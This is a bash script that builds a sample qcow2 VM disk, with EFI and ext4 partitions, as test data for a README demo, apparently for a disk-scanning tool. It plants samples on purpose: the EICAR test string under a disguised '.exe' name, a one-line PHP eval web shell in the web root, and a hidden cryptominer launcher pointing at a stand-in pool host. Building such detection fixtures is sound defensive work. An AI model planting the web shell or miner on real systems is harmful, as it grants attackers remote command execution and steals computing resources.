#!/usr/bin/env bash
# Makes the sample VM disk of the README's demo, with real tools only: a
# GPT disk with an EFI system partition (FAT32) and a Linux root (ext4),
# holding real binaries and a few planted test files, converted to qcow2.
#
#   OUT=/tmp/sample bash testdata/sample-disk.sh
#
# Output: $OUT/sample.qcow2 (and $OUT/tree, the source files).
set -euo pipefail
: "${OUT:?set OUT to an output folder}"
mkdir -p "$OUT"
cd "$OUT"
rm -rf tree disk.raw efi.img root.img sample.qcow2
mkdir -p tree/efi/EFI/BOOT tree/root/{bin,etc,home/alice/Downloads,var/www/html,tmp/.cache}

# Real binaries and files, as a guest would have them.
cp /bin/ls /bin/cat /usr/bin/env tree/root/bin/
cp /etc/services /etc/protocols tree/root/etc/
printf 'sample-vm\n' >tree/root/etc/hostname
printf 'BOOTX64 placeholder\n' >tree/efi/EFI/BOOT/README.txt

# Planted test files. The EICAR string is the industry's harmless test file.
printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' \
	>tree/root/home/alice/Downloads/invoice.pdf.exe
printf '<?php @eval($_POST["cmd"]); ?>\n' >tree/root/var/www/html/status.php
printf '#!/bin/sh\n./kworker -o stratum+tcp://pool.example:3333 -u wallet --donate-level 1\n' \
	>tree/root/tmp/.cache/run.sh
chmod +x tree/root/tmp/.cache/run.sh
ln -s /home/alice tree/root/alice-home

# A GPT disk: 1 MiB gap, EFI 64 MiB, root the rest.
truncate -s 256M disk.raw
sgdisk -n1:2048:+64M -t1:ef00 -c1:EFI -n2:0:0 -t2:8300 -c2:root disk.raw >/dev/null
efi_start=$(sgdisk -i1 disk.raw | awk '/First sector/{print $3}')
root_start=$(sgdisk -i2 disk.raw | awk '/First sector/{print $3}')
root_end=$(sgdisk -i2 disk.raw | awk '/Last sector/{print $3}')

mkfs.vfat -F 32 -n EFI -C efi.img $((64 * 1024)) >/dev/null
mcopy -s -i efi.img tree/efi/EFI ::
mkfs.ext4 -q -L root -d tree/root root.img $(( (root_end - root_start + 1) / 2 ))K
dd if=efi.img of=disk.raw bs=512 seek="$efi_start" conv=notrunc,sparse status=none
dd if=root.img of=disk.raw bs=512 seek="$root_start" conv=notrunc,sparse status=none
rm -f efi.img root.img

qemu-img convert -O qcow2 disk.raw sample.qcow2
rm -f disk.raw
echo "$OUT/sample.qcow2"
